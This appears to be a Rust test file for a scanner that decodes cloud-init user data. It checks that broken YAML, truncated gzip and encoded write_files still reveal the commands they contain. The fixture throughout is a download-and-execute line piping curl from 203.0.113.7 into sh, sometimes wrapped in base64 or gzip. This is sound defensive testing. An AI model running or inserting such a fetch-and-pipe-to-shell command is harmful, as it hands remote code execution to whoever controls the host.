//! Breaking a format must not hide what it holds.

use super::super::decode;
use super::{base64, gzip, lines, runs, undecodable};

const SCRIPT: &str = "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n";
const COMMAND: &str = "curl -s http://203.0.113.7/x | sh";

#[test]
fn broken_yaml_is_told_and_still_read() {
    for (broken, what) in [
        ("#cloud-config\nruncmd:\n  - curl -s http://203.0.113.7/x | sh\n bad: [\n", "a wrong indent behind"),
        (
            "#cloud-config\nx: [\nruncmd:\n  - curl -s http://203.0.113.7/x | sh\n",
            "a list never closed before",
        ),
        (
            "#cloud-config\nx: \"a\nb\"\nruncmd: [\"curl -s http://203.0.113.7/x | sh\"]\n",
            "a quoted text at the edge",
        ),
        ("#cloud-config\n\truncmd:\n\t- curl -s http://203.0.113.7/x | sh\n", "tabs"),
        ("#cloud-config\nruncmd:\n- 'curl -s http://203.0.113.7/x | sh\n", "a quote never closed"),
        ("#cloud-config\nruncmd:\n- @curl\n- curl -s http://203.0.113.7/x | sh\n", "a reserved character"),
    ] {
        let decoded = decode(broken.as_bytes());
        assert!(runs(&decoded, COMMAND), "{what}: {:?}", lines(&decoded));
        assert!(undecodable(&decoded).iter().any(|reason| reason.starts_with("YAML: ")), "{what}");
    }
}

#[test]
fn a_broken_key_does_not_hide_an_encoded_file_behind_it() {
    let config = format!(
        "#cloud-config\nmotd: \"a\nb\"\nwrite_files:\n- path: /x\n  encoding: b64\n  content: {}\n",
        base64(SCRIPT)
    );
    let found = lines(&decode(config.as_bytes()));
    assert!(
        found.contains(&format!("cloud-config > write_files[0] | File /x | {}", SCRIPT.trim_end())),
        "{found:?}"
    );
}

#[test]
fn doubled_keys_and_second_documents_are_all_read() {
    let decoded = decode(b"#cloud-config\nruncmd: [first]\nruncmd: [second]\n---\nruncmd: [third]\n");
    assert!(["first", "second", "third"].iter().all(|text| runs(&decoded, text)), "{:?}", lines(&decoded));
}

#[test]
fn gzip_cut_short_keeps_what_inflates() {
    let long: String = (0..2000).map(|n| format!("echo {}\n", n * 7919)).collect();
    let packed = gzip(format!("{SCRIPT}{long}").as_bytes());
    let decoded = decode(&packed[..packed.len() / 2]);
    assert!(runs(&decoded, COMMAND));
    assert_eq!(undecodable(&decoded).len(), 1);
    assert!(undecodable(&decoded)[0].starts_with("gzip: "));
}

#[test]
fn gzip_of_several_members_is_read_to_the_end() {
    let members = [gzip(b"#!/bin/sh\n"), gzip(COMMAND.as_bytes())].concat();
    let padded = [&members[..], &[0; 512]].concat();
    for bytes in [&members, &padded] {
        let decoded = decode(bytes);
        assert!(runs(&decoded, COMMAND));
        assert_eq!(undecodable(&decoded), Vec::<String>::new());
    }
    let followed = decode(&[&members[..], b"rest"].concat());
    assert!(runs(&followed, COMMAND));
    assert_eq!(undecodable(&followed), ["gzip: something else behind the end"]);
}

#[test]
fn a_file_that_is_not_what_its_encoding_says_is_told_and_kept() {
    let config = "#cloud-config\nwrite_files:\n- {path: /x, encoding: gz+b64, content: IyEvYmluL3NoCmlkCg==}\n- {path: /y, encoding: b64, content: '***'}\n";
    let found = lines(&decode(config.as_bytes()));
    assert_eq!(
        found,
        [
            "cloud-config > write_files[0] | Undecodable gzip: something else behind the end",
            "cloud-config > write_files[0] | File /x | #!/bin/sh\nid",
            "cloud-config > write_files[1] | Undecodable not base64",
            "cloud-config > write_files[1] | File /y | ***",
        ]
    );
}

#[test]
fn binary_data_is_told_with_its_hash() {
    let decoded = decode(&[0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0]);
    let crate::user_data::Content::Undecodable { sha256, len, .. } = &decoded.pieces[0].content else {
        panic!()
    };
    assert_eq!((sha256.len(), *len), (64, 14));
}

#[test]
fn control_characters_stay_out_of_paths() {
    let decoded = decode("#cloud-config\n\"a\\e[31mb\\nc\": x\n".as_bytes());
    assert_eq!(decoded.pieces[0].path, "cloud-config > a[31mbc");
}
